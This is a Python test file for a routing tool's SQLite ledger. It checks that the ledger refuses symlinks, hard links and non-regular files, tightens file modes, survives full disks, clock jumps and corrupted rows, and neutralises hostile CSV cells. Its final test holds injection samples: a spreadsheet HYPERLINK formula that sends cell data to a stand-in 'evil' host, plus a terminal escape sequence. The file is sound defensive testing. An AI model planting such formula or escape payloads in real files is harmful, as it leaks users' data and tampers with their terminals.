"""Files that are not what they seem, disks that take nothing, clocks that jump: said, and never a step lost unseen."""

from __future__ import annotations

import csv
import io
import os
import queue
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from agentroute import Router, StepContext, Target
from agentroute.cli.report import to_csv
from agentroute.decisions import Decision
from agentroute.errors import ConfigError
from agentroute.ledger import SqliteLedger
from agentroute.ledger.reading import is_ledger, read_decisions, read_entries, read_gaps, read_totals
from agentroute.ledger.report import report
from agentroute.replay.ledgers import replay_ledger
from tests.ledger.test_sqlite import DONE

posix = pytest.mark.skipif(os.name != "posix", reason="modes and links are POSIX")


def made(number: int, **facts: object) -> Decision:
    at = datetime(2026, 11, 24, tzinfo=UTC) + timedelta(hours=number)
    return replace(DONE, id=f"d{number}", created_at=at, **facts)  # type: ignore[arg-type]


def written(path: Path, *numbers: int) -> None:
    with SqliteLedger(path) as ledger:
        for number in numbers:
            ledger.append(made(number))


# -- what lies at the path -----------------------------------------------------------------------------------------


@posix
@pytest.mark.parametrize("behind", ["nothing", "an empty file", "a text", "a ledger", "another link"])
def test_no_link_is_followed(tmp_path: Path, behind: str) -> None:
    aim, link = tmp_path / "aim", tmp_path / "ledger.db"
    if behind == "an empty file":
        aim.touch(0o644)
    elif behind == "a text":
        aim.write_text("secret\n" * 100)
    elif behind == "a ledger":
        written(aim, 0)
    elif behind == "another link":
        aim.symlink_to(tmp_path / "further")
    link.symlink_to(aim)
    before = aim.read_bytes() if aim.is_file() else None
    with pytest.raises(ConfigError, match="is a link, which is not followed"):
        SqliteLedger(link)
    assert (aim.read_bytes() if aim.is_file() else None) == before
    assert not (tmp_path / "further").exists()


@posix
def test_a_file_with_two_names_is_refused(tmp_path: Path) -> None:
    (tmp_path / "victim").touch()
    (tmp_path / "ledger.db").hardlink_to(tmp_path / "victim")
    with pytest.raises(ConfigError, match="hard links"):
        SqliteLedger(tmp_path / "ledger.db")
    assert (tmp_path / "victim").stat().st_size == 0


@posix
def test_a_link_that_comes_later_is_not_followed(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path, victim = tmp_path / "ledger.db", tmp_path / "victim"
    ledger = SqliteLedger(path)
    path.unlink()
    path.symlink_to(victim)
    ledger.append(made(0))
    ledger.close()
    assert not victim.exists()
    assert "is a link" in caplog.text
    assert "could not be written: 1" in caplog.text


@posix
def test_what_is_no_file_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", tmp_path, Path("/dev/null")):
        with pytest.raises(ConfigError, match=r"no regular file|cannot be used"):
            SqliteLedger(path)


@posix
@pytest.mark.parametrize("mode", [0o666, 0o644, 0o640, 0o604])
def test_a_file_that_was_there_is_closed_to_others(tmp_path: Path, mode: int, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "ledger.db"
    written(path, 0)
    path.chmod(mode)
    with SqliteLedger(path) as ledger:
        ledger.append(made(1))
        ledger.flush()
        modes = {file.name: file.stat().st_mode & 0o777 for file in tmp_path.iterdir()}
    assert set(modes.values()) == {0o600}, modes
    assert f"others could open {path} (mode {mode:04o})" in caplog.text


@posix
def test_another_programs_database_is_left_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "other.db"
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE t (a)")
    path.chmod(0o644)
    before = path.read_bytes()
    with pytest.raises(ConfigError, match="another program's"):
        SqliteLedger(path)
    assert path.read_bytes() == before
    assert path.stat().st_mode & 0o777 == 0o644


# -- while it runs -------------------------------------------------------------------------------------------------


@posix
@pytest.mark.parametrize("how", ["deleted", "moved", "moved without its log", "replaced"])
def test_a_file_that_goes_away_is_begun_anew(tmp_path: Path, how: str, caplog: pytest.LogCaptureFixture) -> None:
    path, away = tmp_path / "ledger.db", tmp_path / "yesterday.db"
    with SqliteLedger(path, flush_s=0.01) as ledger:
        ledger.append(made(0))
        assert ledger.flush()
        if how == "deleted":
            for file in list(tmp_path.iterdir()):
                file.unlink()
        else:
            for end in ("",) if how == "moved without its log" else ("", "-wal", "-shm"):
                path.with_name(path.name + end).rename(away.with_name(away.name + end))
        if how == "replaced":
            written(path, 7)
        ledger.append(made(1))
        assert ledger.flush()
        assert [step.id for step in ledger.decisions] == (["d1", "d7"] if how == "replaced" else ["d1"])
        assert ledger.totals.steps == len(ledger.decisions), "the totals of a file are those of its steps"
    assert f"the ledger {path} was moved or deleted" in caplog.text
    if how != "deleted":
        assert [step.id for step in read_decisions(away)] == ["d0"]
        assert read_totals(away).steps == 1


FULL = """
import resource, signal, sys
from agentroute.ledger import SqliteLedger
from tests.attacks.test_ledger import made
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
ledger = SqliteLedger(sys.argv[1], flush_s=0.01)
ledger.append(made(0))
assert ledger.flush()
resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, resource.RLIM_INFINITY))
for number in range(1, 400):
    ledger.append(made(number))
assert not ledger.flush()
if sys.argv[2] == "and stays so":
    ledger.close()
else:
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    assert ledger.flush()
    assert ledger.totals.steps == len(ledger.decisions) == 400
    ledger.close()
"""


@posix
@pytest.mark.parametrize("then", ["and stays so", "and has room again"])
def test_a_full_disk_loses_nothing_unsaid(tmp_path: Path, then: str) -> None:
    path = tmp_path / "ledger.db"
    done = subprocess.run(
        [sys.executable, "-c", FULL, str(path), then],
        cwd=Path(__file__).parents[2],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "cannot be written" in done.stderr
    lost = 0
    if then == "and stays so":
        lost = int(done.stderr.rpartition("could not be written: ")[2].split()[0])
        assert lost > 0
    in_gaps = sum(gap.totals.steps for gap in read_gaps(path))
    assert len(list(read_decisions(path))) + max(lost, in_gaps) == 400, "a gap is small: it may find room at exit"


@pytest.fixture
def ordinary_user() -> Iterator[Path]:
    """A folder that others may read only, and a user who is one of them: root may write anywhere."""
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        yield Path(folder)


@posix
@pytest.mark.parametrize("made_before", [True, False])
def test_a_folder_that_cannot_be_written_is_said_at_once(ordinary_user: Path, made_before: bool) -> None:
    path = ordinary_user / "ledger.db"
    if made_before:
        written(path, 0)
        path.chmod(0o444)
    root = os.geteuid() == 0
    ordinary_user.chmod(0o555)
    if root:
        os.seteuid(65534)
    try:
        with pytest.raises(ConfigError, match=r"cannot be used \(PermissionError"):
            SqliteLedger(path)
    finally:
        if root:
            os.seteuid(0)
        ordinary_user.chmod(0o755)


def test_a_clock_that_jumps_loses_no_step(tmp_path: Path) -> None:
    """Back by a day, then forward by years: order and days are the clock's, sums and gaps hold."""
    path = tmp_path / "ledger.db"
    hours = [0, 1, -24, -23, 24 * 365 * 40, 2]
    with SqliteLedger(path, queue_size=1000) as ledger:
        for hour in hours:
            ledger.append(made(hour))
    assert [step.id for step in read_decisions(path)] == [f"d{hour}" for hour in sorted(hours)]
    found = report(read_entries(path), read_gaps(path), by=("day",))
    assert found.totals.steps == sum(group.steps for group in found.by["day"].values()) == len(hours)
    assert read_totals(path).cost == len(hours) * Decimal("0.00012")


OTHER = """
import sqlite3, sys
connection = sqlite3.connect(sys.argv[1])
print(connection.execute("SELECT count(*) FROM decisions").fetchone()[0])
connection.close()
"""


def test_a_second_ledger_of_one_process_takes_no_lock_from_the_first(tmp_path: Path) -> None:
    """POSIX drops a process's locks on a file when it closes any descriptor of it: another process would then think
    that nobody is there, and delete the log under the writer."""
    path = tmp_path / "ledger.db"

    def seen_by_another() -> int:
        command = [sys.executable, "-c", OTHER, str(path)]
        return int(subprocess.run(command, capture_output=True, text=True, check=True).stdout)

    with SqliteLedger(path, flush_s=0.01) as ledger:
        ledger.append(made(0))
        assert ledger.flush()
        SqliteLedger(path)
        assert is_ledger(path)
        assert seen_by_another() == 1
        assert path.with_name("ledger.db-wal").exists()
        ledger.append(made(1))
        assert ledger.flush()
        assert seen_by_another() == 2


def test_queues_are_those_of_the_moment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """gevent puts its own there, maybe after our import: with the others the whole process would wait for ever."""
    made_here = []

    class Greens(queue.SimpleQueue):  # type: ignore[type-arg]
        def __init__(self) -> None:
            made_here.append(self)

    monkeypatch.setattr(queue, "SimpleQueue", Greens)
    written(tmp_path / "ledger.db", 0)
    assert len(made_here) == 2


# -- damage --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "damage",
    [
        "UPDATE decisions SET decision = replace(decision, 'policy_version', 'polizy_version') WHERE seq = 2",
        "UPDATE decisions SET decision = '[]' WHERE seq = 2",
        "UPDATE decisions SET decision = '{' WHERE seq = 2",
        "UPDATE decisions SET decision = replace(decision, '0.00012', 'NaN'), cost = 'NaN' WHERE seq = 2",
        "UPDATE decisions SET cost = 'much' WHERE seq = 2",
        "UPDATE decisions SET attempts = 'x' WHERE seq = 2",
        "UPDATE decisions SET duration_s = 9e999 WHERE seq = 2",
        "UPDATE decisions SET target = x'00ff' WHERE seq = 2",
        "UPDATE totals SET cost = 'Infinity'",
        "UPDATE totals SET steps = 'x'",
        "INSERT INTO gaps VALUES (1, 'w', 'yesterday', 'today', 1, 0, '0', '0', '0')",
    ],
)
def test_a_damaged_row_is_named_and_never_a_crash(tmp_path: Path, damage: str) -> None:
    path = tmp_path / "ledger.db"
    written(path, 0, 1, 2)
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(damage)
    said = []
    router = Router([Target(name="a", provider="acme", model="m", tier="mid", base_url="http://localhost/v1")])
    for read in (
        lambda: list(read_decisions(path)),
        lambda: report(read_entries(path), read_gaps(path), by=("target",)),
        lambda: read_totals(path),
        lambda: replay_ledger(path, router),
    ):
        try:
            read()
        except ConfigError as error:
            said.append(str(error))
    assert said
    assert all("is damaged" in words and str(path) in words for words in said), said


@pytest.mark.parametrize("page", [1, 2, 4])
def test_a_damaged_page_reaches_no_call_and_is_said(
    tmp_path: Path, page: int, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "ledger.db"
    written(path, *range(30))
    raw = bytearray(path.read_bytes())
    raw[page * 4096 : (page + 1) * 4096] = bytes(4096)
    path.write_bytes(raw)
    ledger = SqliteLedger(path, flush_s=0.01)
    ledger.append(made(30))
    kept = ledger.flush()
    ledger.close()
    assert kept or "could not be written: 1" in caplog.text


# -- names that others chose ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\ufffd=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("\x1b]0;pwn\x07red", "\ufffd]0;pwn\ufffdred"),
        ("\u202eevil", "\ufffdevil"),
        ("a\r\nb", "a\ufffd\ufffdb"),
        ("plain, with = inside", "plain, with = inside"),
    ],
)
def test_a_csv_cell_is_no_formula_and_moves_no_terminal(name: str, cell: str, tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    with SqliteLedger(path) as ledger:
        ledger.append(made(0, context=StepContext(agent=name), cost=Decimal("0.5")))
    table = to_csv(report(read_entries(path), (), by=("agent",)))
    _, row = csv.DictReader(io.StringIO(table))
    assert row["value"] == cell
    assert Decimal(row["savings"]) < 0, "an amount below 0 is a number still"
